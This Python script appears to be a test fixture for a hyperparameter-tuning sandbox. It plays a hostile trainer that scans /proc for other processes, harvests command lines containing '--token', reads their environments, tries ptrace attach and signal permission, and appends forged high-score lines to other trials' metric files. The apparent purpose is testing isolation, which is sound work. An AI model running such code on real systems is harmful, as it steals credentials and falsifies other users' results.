"""A hostile trainer that goes after other trials: every process it can see (not its own
ancestors), whether it can signal it, ptrace it, read its environment and command line, and
write its metric file (found in that environment, or guessed from the data dir's layout).
Records what it managed in <job-dir>/prowl.json, then reports a metric honestly."""

import argparse
import ctypes
import json
import os
import time
from pathlib import Path

import hypertune

p = argparse.ArgumentParser()
p.add_argument("--job-dir", required=True)
p.add_argument("--x", type=float, default=0.0)
p.add_argument("--victim", required=True)  # <project>/<jobId>/<trialId> of the other trial
a = p.parse_args()
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
libc = ctypes.CDLL(None, use_errno=True)
FORGED = json.dumps({"score": 999.0, "global_step": "2", "timestamp": time.time()}) + "\n"


def parent(pid):
    stat = Path(f"/proc/{pid}/stat").read_text()
    return int(stat[stat.rfind(")") + 2:].split()[1])


ancestors, pid = set(), os.getpid()
while pid > 0:
    ancestors.add(pid)
    try:
        pid = parent(pid)
    except OSError:
        break
report: dict[str, list[object]] = {k: [] for k in ("seen", "signalled", "ptraced", "environ_read",
                                            "forged", "token_cmdlines")}
own_metric_file = os.environ.get("CLOUD_ML_HP_METRIC_FILE")


def forge(path):
    if path and path != own_metric_file:
        try:
            with open(path, "a") as f:
                f.write(FORGED)
            report["forged"].append(path)
        except OSError:
            pass


for entry in os.listdir("/proc"):
    if not entry.isdigit() or int(entry) in ancestors:
        continue
    pid = int(entry)
    report["seen"].append(pid)
    try:
        cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
        if "--token" in cmdline:
            report["token_cmdlines"].append(cmdline)
    except OSError:
        pass
    try:
        os.kill(pid, 0)  # the permission check of any signal, SIGKILL included
        report["signalled"].append(pid)
    except OSError:
        pass
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        report["ptraced"].append(pid)
        os.waitpid(pid, 0)
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    try:
        environ = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
        report["environ_read"].append(pid)
    except OSError:
        continue
    for var in environ:
        if var.startswith(b"CLOUD_ML_HP_METRIC_FILE="):
            forge(var.split(b"=", 1)[1].decode())
# The other trial's metric file by the data dir's layout, as a trainer that reads the README
# would guess it: <data>/sandbox/<project>/<jobId>/trials/<trialId>/hypertune-1/output.metrics
# (its first attempt's).
data = Path.cwd().parents[4]
project, job, trial = a.victim.split("/")
forge(str(data / "sandbox" / project / job / "trials" / trial / "hypertune-1" / "output.metrics"))
Path(a.job_dir, "prowl.json").write_text(json.dumps(report))
hypertune.HyperTune().report_hyperparameter_tuning_metric(
    hyperparameter_metric_tag="score", metric_value=a.x, global_step=1)
